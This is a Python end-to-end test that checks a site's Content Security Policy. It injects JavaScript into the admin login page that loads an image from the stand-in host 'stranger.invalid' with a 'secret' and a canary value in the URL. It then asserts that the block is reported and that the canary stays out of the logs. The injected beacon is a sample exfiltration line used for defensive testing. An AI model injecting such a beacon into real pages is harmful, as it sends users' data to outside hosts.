"""What a real browser does with our content policy: keeps it, and reports what it kept out."""

from __future__ import annotations

from tests.e2e.conftest import OpenContext
from tests.e2e.rest import until
from tests.e2e.site import Site
from tests.e2e.watch import Watch

STRANGER = "stranger.invalid"
INJECTED = f"""() => {{
  const picture = new Image();
  picture.src = "https://{STRANGER}/a-customers-secret.png?of=canary";
  document.body.append(picture);
}}"""


def test_what_the_policy_keeps_out_is_reported_and_logged_without_its_address(
    open_context: OpenContext, site: Site, watch: Watch
) -> None:
    watch.allow(f"Policy broken|Content Security Policy|violates|{STRANGER}")
    page = open_context().new_page()
    page.goto(f"{site.url}/admin/login/")
    page.evaluate(INJECTED)
    until(lambda: f"The content policy kept {STRANGER} out (img-src)" in site.output())
    assert "canary" not in site.output()
